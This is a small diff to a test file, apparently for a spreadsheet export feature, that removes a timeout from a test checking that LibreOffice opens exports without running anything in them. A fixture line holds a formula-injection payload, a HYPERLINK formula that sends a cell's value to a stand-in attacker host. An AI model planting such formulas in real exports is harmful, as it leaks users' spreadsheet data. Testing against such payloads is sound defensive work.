@@ -22,9 +22,7 @@ import { openTestStore, testFolder } from '../support/store'
 
 const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
-test('LibreOffice opens every export as it was written, and runs nothing in it, whatever anybody typed anywhere', {
-  timeout: 180_000,
-}, async context => {
+test('LibreOffice opens every export as it was written, and runs nothing in it, whatever anybody typed anywhere', async context => {
   // it takes some seconds to start
   const { ports, campaign } = await hostileWorld()
   const folder = testFolder()
